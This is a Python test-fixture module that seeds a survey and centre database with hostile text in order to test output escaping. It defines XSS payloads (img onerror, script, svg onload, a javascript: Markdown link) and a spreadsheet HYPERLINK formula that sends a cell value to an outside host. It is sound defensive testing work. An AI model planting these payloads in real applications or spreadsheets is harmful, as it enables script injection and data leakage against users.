"""Hostile payloads and a database full of them, shared by the AppTest and browser hostile tests.

Every free-text field that reaches the screen (centre, area, municipality,
actor and host names, survey comments, codebook labels and descriptions)
carries HTML/JS, Markdown-link or spreadsheet-formula payloads. The frames are
the bundled sample, changed and validated exactly like an upload, then stored
with ``lib.data.store.import_frame``.
"""

from __future__ import annotations

import pandas as pd

# Each payload sets window.__pwned if a browser ever executes it.
IMG = '<img src=x onerror="window.__pwned=1">'
SCRIPT = "<script>window.__pwned=1</script>"
SVG = "<svg/onload=window.__pwned=1>"
MD_LINK = "[klik her](javascript:window.__pwned=1)"
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
PAYLOADS = (IMG, SCRIPT, SVG, MD_LINK, FORMULA)
# Raw fragments that must never reach a Markdown/HTML element unescaped.
RAW_MARKERS = ("<img src=x", "<script>", "<svg/onload", "](javascript:")
# A municipality whose name is a payload: it shows up in the filter options and in the
# filter summary (captions, chart subtitles, presentation header).
HOSTILE_MUNICIPALITY = f"Hostrup {IMG}"


def _cycle(values, n: int) -> list:
    return [values[i % len(values)] for i in range(n)]


def hostile_frames(seed: int | None = None) -> dict[str, pd.DataFrame]:
    """The bundled sample with payloads in every text field that is shown to viewers (unvalidated frames)."""
    from lib.data import sample

    frames = sample.generate(seed=seed or sample.DEFAULT_SEED, scale=1)
    centres = frames["centres"].copy()
    areas = frames["areas"].copy()
    actors = frames["actors"].copy()
    responses = frames["survey_responses"].copy()
    codebook = frames["codebook"].copy()

    # One real municipality renamed to a payload everywhere it occurs (areas and centres agree).
    target = sorted(areas["municipality"].unique())[0]
    areas.loc[areas["municipality"] == target, "municipality"] = HOSTILE_MUNICIPALITY
    centres.loc[centres["municipality"] == target, "municipality"] = HOSTILE_MUNICIPALITY

    centres["name"] = [f"{p} {name}" for p, name in zip(_cycle(PAYLOADS, len(centres)), centres["name"], strict=True)]
    centres["host_organisation"] = _cycle(PAYLOADS[::-1], len(centres))
    area_names = {
        a: f"{p} {a}" for a, p in zip(sorted(areas["area_id"].unique()), _cycle(PAYLOADS, 10_000), strict=False)
    }
    areas["name"] = areas["area_id"].map(area_names)
    centre_names = dict(zip(centres["centre_id"], centres["name"], strict=True))
    actors["name"] = [
        centre_names.get(aid, f"{p} {name}")
        for aid, name, p in zip(actors["actor_id"], actors["name"], _cycle(PAYLOADS, len(actors)), strict=True)
    ]
    responses["comment"] = [f"{p} kommentar {i}" for i, p in enumerate(_cycle(PAYLOADS, len(responses)))]
    codebook["label_da"] = [
        f"{p} {x}" for p, x in zip(_cycle(PAYLOADS, len(codebook)), codebook["label_da"], strict=True)
    ]
    codebook["label_en"] = [
        f"{p} {x}" for p, x in zip(_cycle(PAYLOADS, len(codebook)), codebook["label_en"], strict=True)
    ]
    codebook["description"] = _cycle(PAYLOADS[::-1], len(codebook))
    return {
        **frames,
        "centres": centres,
        "areas": areas,
        "actors": actors,
        "survey_responses": responses,
        "codebook": codebook,
    }


def build_hostile_db(url: str) -> str:
    """Validate the hostile frames like an upload and store them as the current versions; return ``url``."""
    from lib import schema
    from lib.data import store

    raw = hostile_frames()
    engine = store.get_engine(url)
    clean: dict[str, pd.DataFrame] = {}
    try:
        for table in store.SEED_ORDER:
            frame, problems = schema.validate(table, raw[table], others=clean)
            assert problems.empty, problems.head().to_dict("records")
            clean[table] = frame
            store.import_frame(engine, table, frame, editor="hostile-test", source_file=f"{table}.csv", based_on=None)
    finally:
        engine.dispose()
    return url
